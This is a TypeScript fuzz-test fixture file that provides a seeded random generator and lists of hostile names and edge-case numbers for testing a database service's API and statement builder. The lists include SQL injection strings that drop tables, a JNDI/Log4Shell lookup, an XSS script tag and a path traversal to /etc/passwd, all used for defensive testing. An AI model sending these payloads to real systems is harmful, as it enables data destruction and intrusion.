// Strings and values that have broken parsers, SQL builders and loggers elsewhere, and a seeded
// generator of more, shared by the API fuzz test and the engine statement tests. The seed comes
// from COFFER_FUZZ_SEED when set (to replay a failure), else a fixed one: runs are deterministic.

export const defaultFuzzSeed = 20261125;

export function fuzzSeed(): number {
  const raw = process.env['COFFER_FUZZ_SEED'];
  const seed = raw === undefined || raw === '' ? defaultFuzzSeed : Number(raw);
  if (!Number.isSafeInteger(seed)) throw new Error(`COFFER_FUZZ_SEED must be an integer, not ${raw}`);
  return seed;
}

/** mulberry32: small, seedable, good enough to pick test cases. */
export function seededRandom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** Quote and comment characters of SQL dialects, shells and Redis rules. */
export const quoteAndComment = ["'", '"', '`', ';', '--', '/*', '*/', '\\', '%', '_', '#', '$$', '>', '<', '~', '&', '*'];

/** Names an attacker or an unlucky user would send, each at most 63 bytes unless it says long. */
export const hostileNames: readonly string[] = [
  ...quoteAndComment.map((q) => `a${q}b`),
  ...quoteAndComment,
  "x'; DROP TABLE users; --",
  'x"; DROP DATABASE "y',
  'x`; DROP DATABASE `y',
  "o'neil",
  'say "hi"',
  'a\\',
  '\\\'',
  "\\'; --",
  'a/*b*/c',
  'a-- b',
  'a%_b',
  'a b',
  ' lead',
  'trail ',
  '\u202eevil', // right-to-left override
  'abc\u202edcba',
  'שלום',
  'مرحبا',
  '😀',
  'db😀x',
  '👨‍👩‍👧',
  'e\u0301', // combining accent
  'ﬁle',
  'a\u0000b', // NUL
  '\u0000',
  'a\ud800b', // lone surrogates: JSON.stringify escapes them
  '\udfff',
  'a\nb',
  'a\rb',
  'a\tb',
  'a\u007fb',
  'a\u2028b',
  'a\u00a0b',
  'a\u200bb', // zero width space
  '${jndi:ldap://x/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '../../etc/passwd',
  '.',
  '..',
  '@',
  'a@b',
  'a@%',
  'a@10.0.0.1',
  '%00',
  '%2e%2e',
  '__proto__',
  'constructor',
  'NULL',
  'true',
  '0',
  '-1',
  'reset',
  'on',
  '+@all',
  '>pw',
  'nopass',
  'x'.repeat(63),
  'ü'.repeat(32), // 64 bytes
  'x'.repeat(65),
];

/** Strings too long for any name: a field's validation, not the body limit, must refuse them. */
export const longStrings: readonly string[] = ['x'.repeat(256), 'y'.repeat(64 * 1024)];

/** The characters random names are drawn from: mostly dangerous ones. */
const alphabet = [...'abcXYZ019_-.@%', ...quoteAndComment, ' ', '\u0000', '\n', '\u202e', 'é', '😀', '\ud800', '\udc00', '\u0301'];

/** `count` random names of 1 to 20 characters from `random`. */
export function randomNames(random: () => number, count: number): string[] {
  const names: string[] = [];
  for (let i = 0; i < count; i++) {
    const length = 1 + Math.floor(random() * 20);
    let name = '';
    for (let j = 0; j < length; j++) name += alphabet[Math.floor(random() * alphabet.length)]!;
    names.push(name);
  }
  return names;
}

/** Numbers at the edges: negative, zero, fractional, beyond 2^53, beyond any size. */
export const hostileNumbers: readonly number[] = [-1, 0, 0.5, 1.5, -0, 2 ** 31, 2 ** 53 + 1, 1e308, -1e308, Number.MAX_SAFE_INTEGER];

/** A value nested `depth` levels deep in arrays. */
export function deeplyNested(depth: number): unknown {
  let value: unknown = 'x';
  for (let i = 0; i < depth; i++) value = [value];
  return value;
}
